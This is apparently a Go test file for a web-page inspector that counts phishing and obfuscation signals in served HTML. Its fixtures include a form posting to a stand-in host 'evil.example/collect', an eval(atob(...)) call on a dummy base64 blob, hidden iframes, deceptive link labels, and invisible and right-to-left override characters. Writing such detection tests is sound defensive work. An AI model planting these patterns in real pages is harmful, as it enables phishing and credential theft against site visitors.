package inspect

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/netwatch/posture/internal/bundle"
)

func serve(t *testing.T, html string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Write([]byte(html))
	}))
	t.Cleanup(srv.Close)
	return srv
}

func inspectPage(t *testing.T, html string) *bundle.ContentSignals {
	t.Helper()
	srv := serve(t, html)
	sig, err := New(srv.Client()).InspectURL(context.Background(), srv.URL+"/")
	require.NoError(t, err)
	return sig
}

func TestInspect_CleanPage(t *testing.T) {
	sig := inspectPage(t, `<html><body><h1>Hello</h1><a href="/about">About</a></body></html>`)
	assert.Equal(t, &bundle.ContentSignals{}, sig)
}

func TestInspect_InvisibleAndRTLCharacters(t *testing.T) {
	sig := inspectPage(t, "<html><body>pay​pal and ‮voM</body></html>")
	assert.Equal(t, 1, sig.InvisibleChars)
	assert.Equal(t, 1, sig.RTLOverrides)
}

func TestInspect_ExternalFormAction(t *testing.T) {
	t.Run("off-origin", func(t *testing.T) {
		sig := inspectPage(t, `<form action="https://evil.example/collect" method="post"><input type="text"></form>`)
		assert.True(t, sig.FormActionExternal)
	})

	t.Run("same origin", func(t *testing.T) {
		sig := inspectPage(t, `<form action="/login" method="post"><input type="text"></form>`)
		assert.False(t, sig.FormActionExternal)
	})
}

func TestInspect_PasswordFields(t *testing.T) {
	sig := inspectPage(t, `
		<form>
			<input type="password" name="pw" autocomplete="off">
			<input type="password" name="confirm">
		</form>`)
	assert.Equal(t, 2, sig.PasswordFields)
	assert.True(t, sig.AutocompleteOff)
}

func TestInspect_ScriptSignals(t *testing.T) {
	blob := strings.Repeat("QUJD", 40)
	sig := inspectPage(t, `<script>
		eval(atob("`+blob+`"));
		document.write("<img src=x>");
		var p = "`+blob+`";
	</script>`)
	assert.Equal(t, 1, sig.EvalCalls)
	assert.Equal(t, 1, sig.DocumentWrite)
	assert.GreaterOrEqual(t, sig.Base64Blobs, 2)
}

func TestInspect_HiddenIframesAndZeroSizeElements(t *testing.T) {
	sig := inspectPage(t, `
		<iframe src="https://a.example" style="display:none"></iframe>
		<iframe src="https://b.example" width="0" height="0"></iframe>
		<iframe src="https://c.example"></iframe>
		<div style="width:0;height:0"></div>`)
	assert.Equal(t, 2, sig.HiddenIframes)
	assert.Equal(t, 1, sig.ZeroSizeElements)
}

func TestInspect_Links(t *testing.T) {
	sig := inspectPage(t, `
		<a href="data:text/html;base64,PGh0bWw+">click</a>
		<a href="https://evil.example/login">https://bank.example/login</a>
		<a href="https://bank.example/login">https://www.bank.example/login</a>
		<a href="https://anywhere.example">plain text label</a>`)
	assert.Equal(t, 1, sig.DataURILinks)
	assert.Equal(t, 1, sig.MismatchedLinks)
}

func TestInspect_RequestFailure(t *testing.T) {
	srv := serve(t, "<html></html>")
	srv.Close()

	_, err := New(nil).InspectURL(context.Background(), srv.URL+"/")
	assert.Error(t, err)
}
